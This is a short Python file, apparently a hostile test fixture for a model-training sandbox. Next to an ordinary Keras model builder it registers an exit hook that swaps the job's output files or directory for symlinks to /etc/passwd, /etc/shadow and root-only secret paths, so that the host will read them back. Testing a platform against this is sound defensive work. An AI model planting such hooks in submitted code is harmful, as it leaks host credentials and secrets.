"""Hostile: as the sandbox exits, turn the outputs into links to secrets, hoping the platform follows them."""

import atexit
import os
import shutil

import keras

VARIANT = "@VARIANT@"
SECRET_FILE = "@SECRET_FILE@"  # root-only, on the host
SECRET_DIR = "@SECRET_DIR@"  # root-only folder on the host holding model.keras and summary.txt
OUT = "/job/out"


def plant():
    if VARIANT == "files":
        links = {
            "model.keras": SECRET_FILE,
            "summary.txt": "/etc/hostname",
            "environment.json": "/etc/passwd",
            "progress.jsonl": "/etc/shadow",
            "architecture.png": SECRET_FILE,
        }
        for name, target in links.items():
            path = os.path.join(OUT, name)
            if os.path.lexists(path):
                os.remove(path)
            os.symlink(target, path)
    else:
        shutil.rmtree(OUT)
        os.symlink("/etc" if VARIANT == "out-to-etc" else SECRET_DIR, OUT)
    print(f"planted {VARIANT}: {sorted(os.listdir(OUT)) if VARIANT == 'files' else os.readlink(OUT)}", flush=True)


atexit.register(plant)  # after the harness has saved the model and reported success


def build_model(spec):
    model = keras.Sequential(
        [
            keras.Input(shape=tuple(spec["input_shape"])),
            keras.layers.Flatten(),
            keras.layers.Dense(spec["num_classes"], activation="softmax"),
        ]
    )
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model
